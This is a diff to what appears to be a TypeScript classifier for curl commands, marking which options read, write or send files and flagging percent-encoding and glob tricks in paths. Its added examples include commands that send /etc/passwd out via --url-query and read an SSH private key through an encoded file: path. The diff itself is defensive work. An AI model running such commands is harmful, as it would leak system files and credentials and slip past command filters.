@@ -65,8 +65,11 @@ for (const name of otherProtocols) {
 const plain =
   "a b c e h j k n o q u v x y z 0 1 2 3 4 5 6 7 8 9 ftp:// ftps:// localhost www. docs. dev. github. gitlab. google. registry. raw. ipinfo. ifconfig. wttr.";
 const plainPrefixes = Object.fromEntries(plain.split(" ").map((start) => [start, connects]));
+// Curl decodes `%41` and expands `{a,b}` and `[1-3]`: such a text is not the path that is read.
+const hidden = unknown("the path of the file is not written out");
+const file: Does = choice({}, reads, { contains: { "%": hidden, "{": hidden, "[": hidden, "?": hidden, "#": hidden } });
 const url: Does = choice({}, connects, {
-  prefixes: { ...plainPrefixes, ...oddPrefixes, "file:": reads },
+  prefixes: { ...plainPrefixes, ...oddPrefixes, "file:": file },
   ignoreCase: true,
 });
 
@@ -163,7 +166,7 @@ const values = [
   "--proxy-tlsuser -r|--range --rate -e|--referer --request-target --retry --retry-delay",
   "--retry-max-time --sasl-authzid --service-name --socks5-gssapi-service -Y|--speed-limit",
   "-y|--speed-time -t|--telnet-option --tftp-blksize -z|--time-cond --tls-max --tls13-ciphers",
-  "--tlsauthtype --tlsuser --url-query -A|--user-agent --vlan-priority --trace-config",
+  "--tlsauthtype --tlsuser -A|--user-agent --vlan-priority --trace-config",
 ];
 
 // Also the part of a header or a cookie that logs a user in.
@@ -205,6 +208,8 @@ export const curl = commands({
       ...optionsWith("--mail-auth --mail-from --mail-rcpt", { value: sends }),
       ...optionsWith("--mail-rcpt-allowfails", { does: sends }),
       "--url": { value: url },
+      // `name@file` and `@file` send a file.
+      "--url-query": { value: choice({}, text, { contains: { "@": sends } }) },
       "-X, --request": { value: method },
       // `certificate:password`.
       "-E, --cert": { value: reads, holdsSecret: true },
@@ -225,7 +230,10 @@ export const curl = commands({
       "--proto-default": { value: choice({ http: text, https: text, ftp: text, ftps: text }, odd) },
       "--proto-redir": { value: choice({ "=https": text, "=http,https": text, "=https,http": text }, odd) },
       "-w, --write-out": { value: choice(formats, unknown("a format may write a file")) },
-      "-o, --output": { value: writesUnlessDash },
+      // `#1` stands for what a pattern in the address gives.
+      "-o, --output": {
+        value: choice({ "-": text }, writes, { contains: { "#": unknown("makes up the names of files") } }),
+      },
       // Of relative paths it moves only those of `-o` and `-O`.
       "--output-dir": { value: writes, moves: "folder" },
       "-O, --remote-name": { does: writes },
@@ -245,7 +253,6 @@ export const curl = commands({
       "--metalink": { does: writes },
     },
     operands: { each: url },
-    environment: { CURL_HOME: [], SSLKEYLOGFILE: [], QLOGDIR: [], OPENSSL_CONF: [], OPENSSL_ENGINES: [] },
     examples: {
       read_only: [
         "curl https://example.com",
@@ -258,6 +265,8 @@ export const curl = commands({
       ],
       mutating: [
         "curl -o out.html https://example.com",
+        "curl --url-query x@/etc/passwd https://example.com",
+        "curl file:///home/u/.%73sh/id_rsa",
         "curl -O https://example.com/x",
         "curl -sLOJ https://example.com/x",
         "curl -d a=b https://example.com",
